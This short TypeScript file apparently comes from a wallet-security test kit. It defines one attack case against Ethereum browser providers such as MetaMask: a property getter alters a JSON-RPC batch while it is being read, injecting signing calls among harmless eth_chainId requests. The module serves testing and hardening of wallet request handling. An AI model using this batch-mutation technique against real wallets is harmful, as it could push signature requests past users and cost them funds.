import type { Attack } from './kit/attack.ts'

export default {
  family: 'methods',
  how: 'Changes a batch while it is being read, from a getter inside it.',
  script: `
    const call = () => ({ id: 1, jsonrpc: '2.0', ...attack.sign })
    const read = { id: 2, jsonrpc: '2.0', method: 'eth_chainId', params: [] }
    const list = [read, read, read]
    Object.defineProperty(list, 1, { enumerable: true, configurable: true, get() { list[2] = call(); list.push(call()); return read } })
    try { ethereum.sendAsync(list, () => {}) } catch {}
    try { ethereum._metamask.requestBatch(list).catch(() => {}) } catch {}
    try { ethereum.sendAsync([read, call()], () => {}) } catch {}
    await attack.sleep(300)
  `,
} satisfies Attack
